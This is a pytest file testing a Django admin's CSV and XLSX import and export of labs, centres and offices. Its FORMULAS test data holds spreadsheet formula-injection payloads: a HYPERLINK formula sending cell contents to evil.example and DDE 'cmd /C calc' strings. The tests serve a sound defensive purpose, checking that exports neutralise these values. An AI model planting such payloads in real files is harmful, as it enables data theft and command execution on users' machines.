"""Import and export of labs, centres and offices through the admin, as staff use them."""

import csv
import datetime
import io
import os
import tempfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from laboratories.models import Lab, ResearchCenter
from offices.models import Office
from tests.backoffice.forms import read_form
from tests.factories import (
    InstituteFactory,
    InstrumentFactory,
    LabFactory,
    OfficeFactory,
    PartnerFactory,
    ResearchCenterFactory,
    ThemeFactory,
)

pytestmark = pytest.mark.django_db

FORMATS = {"csv": "0", "xlsx": "1"}
MODELS = {
    "lab": ("laboratories", Lab, ["other_institutes", "countries", "partners", "themes"]),
    "researchcenter": ("laboratories", ResearchCenter, ["institutes", "themes", "labs"]),
    "office": ("offices", Office, ["covered_countries"]),
}


@pytest.fixture
def content(insis, inc):
    """Entries with every kind of value: both languages, a missing one, relations, dates."""
    irp = InstrumentFactory(code="IRP", min_partner_countries=1, max_partner_countries=2)
    themes = [ThemeFactory(slug="robotics"), ThemeFactory(slug="materials")]
    company = PartnerFactory(slug="acme", kind="company")
    university = PartnerFactory(slug="u-tokyo")
    rich = LabFactory(
        slug="rich-lab",
        acronym="RICH",
        name_fr="Laboratoire « riche », avec virgule",
        name_en="Rich lab, with a comma",
        instrument=irp,
        lead_institute=insis,
        countries=["JP", "SG"],
        city_fr="Singapour",
        city_en="Singapore",
        latitude=Decimal("1.29030"),
        longitude=Decimal("103.85200"),
        director="Jeanne Dupont",
        start_date=datetime.date(2021, 3, 1),
        end_date=datetime.date(2026, 2, 28),
        summary_fr="Première ligne.\nSeconde ligne ; accents : éàü.",
        summary_en="",
        description_fr="",
        description_en=None,
        website="https://example.org/rich",
        headcount=42,
        is_published=False,
    )
    rich.other_institutes.set([inc])
    rich.partners.set([company, university])
    rich.themes.set(themes)
    plain = LabFactory(slug="plain-lab", lead_institute=inc, name_en=None)
    center = ResearchCenterFactory(slug="igrid", university=university, country_id="US")
    center.institutes.set([insis, inc])
    center.labs.set([rich, plain])
    center.themes.set(themes[:1])
    office = OfficeFactory(
        slug="tokyo", address_fr="1 rue X\nTokyo", opened_on=datetime.date(1995, 1, 1)
    )
    office.covered_countries.set(["JP", "KR"])
    return {"lab": rich, "researchcenter": center, "office": office}


def url(kind, action):
    app, _model, _m2m = MODELS[kind]
    return f"/admin/{app}/{kind}/{action}/"


def export(client, kind, file_format):
    page = client.get(url(kind, "export"))
    assert page.status_code == 200
    data = read_form(page, method="POST")
    data["format"] = [FORMATS[file_format]]
    response = client.post(url(kind, "export"), data)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return response.content


def rows_of(content, file_format):
    if file_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8"))))
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell if cell is not None else "" for cell in row] for row in sheet.values]


def to_csv(rows):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def preview(client, kind, content, file_format):
    page = client.get(url(kind, "import"))
    data = read_form(page, enctype="multipart/form-data")
    data["format"] = [FORMATS[file_format]]
    data["import_file"] = [SimpleUploadedFile(f"entries.{file_format}", content)]
    response = client.post(url(kind, "import"), data)
    assert response.status_code == 200
    return response


def confirm(client, kind, preview_response):
    data = read_form(preview_response, method="POST", action=url(kind, "process_import"))
    return client.post(url(kind, "process_import"), data)


def snapshot(kind):
    """Every stored value of the model's rows and relations, and how many versions exist."""
    _app, model, m2m = MODELS[kind]
    rows = list(model.objects.order_by("pk").values())
    for row in rows:
        row.pop("updated_at", None)
    relations = {name: sorted(getattr(model, name).through.objects.values_list()) for name in m2m}
    return rows, relations, model.history.count()


def test_export_has_both_languages_and_no_plain_translated_column(staff_client, content):
    header = rows_of(export(staff_client, "lab", "csv"), "csv")[0]
    for name in ["name", "city", "summary", "description"]:
        assert name not in header
        assert f"{name}_fr" in header
        assert f"{name}_en" in header
    assert {"instrument", "lead_institute", "countries", "partners", "themes"} <= set(header)


def test_export_writes_codes_for_relations(staff_client, content):
    rows = rows_of(export(staff_client, "lab", "csv"), "csv")
    header, values = rows[0], {row[0]: row for row in rows[1:]}
    rich = dict(zip(header, values["rich-lab"], strict=True))
    assert rich["instrument"] == "IRP"
    assert rich["lead_institute"] == "INSIS"
    assert rich["countries"] == "JP,SG"
    assert rich["partners"] == "acme,u-tokyo"
    # Stored (and so exported) with French typography: narrow no-break spaces.
    assert rich["name_fr"] == "Laboratoire «\u202friche\u202f», avec virgule"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["lab", "researchcenter", "office"])
def test_export_then_import_changes_nothing(staff_client, content, kind, file_format):
    before = snapshot(kind)
    exported = export(staff_client, kind, file_format)
    response = preview(staff_client, kind, exported, file_format)
    result = response.context["result"]
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert result.totals["skip"] == len(before[0])
    assert result.totals["new"] == result.totals["update"] == 0
    assert confirm(staff_client, kind, response).status_code == 302
    assert snapshot(kind) == before


def test_preview_says_what_changes_and_writes_nothing_until_confirmed(staff_client, content):
    rows = rows_of(export(staff_client, "lab", "csv"), "csv")
    header = rows[0]
    by_slug = {row[0]: row for row in rows[1:]}
    by_slug["plain-lab"][header.index("name_en")] = "Plain lab"
    new_row = list(by_slug["plain-lab"])
    new_row[header.index("slug")] = "new-lab"
    new_row[header.index("acronym")] = "NEW"
    file = to_csv([header, *by_slug.values(), new_row])
    before = snapshot("lab")

    response = preview(staff_client, "lab", file, "csv")
    assert response.context["result"].totals["new"] == 1
    assert response.context["result"].totals["update"] == 1
    assert response.context["result"].totals["skip"] == 1
    page = response.content.decode()
    assert "1 fiche à créer" in page
    assert "1 fiche à modifier" in page
    assert snapshot("lab") == before  # the preview wrote nothing

    assert confirm(staff_client, "lab", response).status_code == 302
    assert Lab.objects.get(slug="plain-lab").name_en == "Plain lab"
    created = Lab.objects.get(slug="new-lab")
    assert list(created.countries.values_list("code", flat=True)) == ["JP"]
    assert created.history.first().history_change_reason == "import"


@pytest.mark.parametrize(
    ("column", "value", "reason"),
    [
        ("instrument", "XYZ", "outil inconnu\u202f: «\u202fXYZ\u202f»"),
        ("countries", "JP,ZZ", "pays inconnus\u202f: ZZ."),
        ("countries", "JP,SG,KR", "Un IRP a entre 1 et 2 pays partenaires étrangers."),
        ("countries", "", "Choose the foreign partner countries.|Choisissez les pays partenaires"),
        ("start_date", "not a date", "start_date"),
        ("latitude", "123", "latitude"),
    ],
)
def test_a_refused_row_says_its_number_and_why_and_nothing_is_written(
    staff_client, content, column, value, reason
):
    rows = rows_of(export(staff_client, "lab", "csv"), "csv")
    header = rows[0]
    by_slug = {row[0]: row for row in rows[1:]}
    by_slug["plain-lab"][header.index("name_en")] = "A valid change"  # would be accepted
    by_slug["rich-lab"][header.index(column)] = value
    line = [row[0] for row in rows[1:]].index("rich-lab") + 1
    before = snapshot("lab")

    response = preview(staff_client, "lab", to_csv([header, *by_slug.values()]), "csv")
    page = response.content.decode()
    result = response.context["result"]
    assert result.totals["invalid"] == 1
    assert f"Ligne de données {line} (ligne {line + 1} du fichier)" in page
    assert any(option in page for option in reason.split("|"))
    assert "process_import" not in page  # no confirmation offered
    assert snapshot("lab") == before


def test_a_confirmation_whose_file_turned_bad_writes_nothing(staff_client, content):
    rows = rows_of(export(staff_client, "lab", "csv"), "csv")
    header = rows[0]
    by_slug = {row[0]: row for row in rows[1:]}
    by_slug["plain-lab"][header.index("name_en")] = "A valid change"
    response = preview(staff_client, "lab", to_csv([header, *by_slug.values()]), "csv")
    stored = read_form(response, method="POST", action=url("lab", "process_import"))
    # Between the preview and the confirmation the stored file gets a refused row.
    by_slug["rich-lab"][header.index("instrument")] = "XYZ"
    path = os.path.join(tempfile.gettempdir(), stored["import_file_name"][0])
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(to_csv([header, *by_slug.values()]).decode())
    before = snapshot("lab")
    answer = staff_client.post(url("lab", "process_import"), stored)
    assert answer.status_code == 302
    assert answer["Location"] == url("lab", "import")
    assert snapshot("lab") == before


def test_a_file_that_is_not_a_table_is_refused_on_the_form(staff_client, content):
    response = preview(staff_client, "lab", b"\x00\x01\x02 not a spreadsheet", "xlsx")
    assert response.context["form"].errors
    assert "result" not in response.context or not response.context["result"]


def test_import_creates_centres_with_their_relations(staff_client, content):
    rows = rows_of(export(staff_client, "researchcenter", "csv"), "csv")
    header = rows[0]
    new = list(rows[1])
    new[header.index("slug")] = "new-centre"
    new[header.index("is_first")] = "0"
    new[header.index("institutes")] = "INSIS"
    response = preview(staff_client, "researchcenter", to_csv([header, rows[1], new]), "csv")
    assert response.context["result"].totals["new"] == 1
    confirm(staff_client, "researchcenter", response)
    created = ResearchCenter.objects.get(slug="new-centre")
    assert [i.code for i in created.institutes.all()] == ["INSIS"]
    assert sorted(created.labs.values_list("slug", flat=True)) == ["plain-lab", "rich-lab"]


def test_export_queries_do_not_grow_with_the_rows(
    staff_client, content, insis, django_assert_max_num_queries
):
    with django_assert_max_num_queries(40) as few:
        export(staff_client, "lab", "csv")
    two_labs = len(few.captured_queries)
    for number in range(20):
        LabFactory(lead_institute=insis, countries=["JP"], slug=f"extra-{number}")
    InstituteFactory(code="INP")
    with django_assert_max_num_queries(two_labs):
        export(staff_client, "lab", "csv")


# What a spreadsheet would run as a formula, typed in the back-office: each export writes it
# as text, with a leading quote, and an import of that export gives it back as typed.
FORMULAS = {
    "name_fr": '=HYPERLINK("https://evil.example/?"&A1;"clic")',
    "name_en": "+1+cmd|' /C calc'!A0",
    "city_fr": "-2+3+cmd|' /C calc'!A0",
    "city_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "director": "\t=1+1",
    "summary_fr": "\r=1+1",
    "summary_en": "'=already quoted",
}


@pytest.fixture
def formulas(insis):
    return LabFactory(
        slug="formula-lab",
        lead_institute=insis,
        latitude=Decimal("-33.45000"),
        longitude=Decimal("-70.66000"),
        **FORMULAS,
    )


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exported_text_is_never_a_formula_and_numbers_stay_numbers(
    staff_client, formulas, file_format
):
    exported = export(staff_client, "lab", file_format)
    rows = rows_of(exported, file_format)
    row = dict(zip(rows[0], next(row for row in rows[1:] if row[0] == "formula-lab"), strict=True))
    for column, typed in FORMULAS.items():
        if file_format == "xlsx":  # XML keeps a line break, but not a carriage return
            typed = typed.replace("\r", "\n")
        assert row[column] == "'" + typed, column
    if file_format == "xlsx":
        sheet = load_workbook(io.BytesIO(exported)).active
        assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
        assert row["latitude"] == -33.45
        assert row["longitude"] == -70.66
    else:
        assert row["latitude"] == "-33,45000"  # in the admin's language
        assert row["longitude"] == "-70,66000"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_with_formulas_imports_back_unchanged(staff_client, formulas, file_format):
    # Files read back turn a carriage return into a line break (as they did before): the
    # summary starts with a line break here, which is quoted all the same.
    Lab.objects.filter(pk=formulas.pk).update(summary_fr="\n=1+1")
    before = snapshot("lab")
    response = preview(staff_client, "lab", export(staff_client, "lab", file_format), file_format)
    result = response.context["result"]
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert result.totals["skip"] == len(before[0])
    assert confirm(staff_client, "lab", response).status_code == 302
    assert snapshot("lab") == before
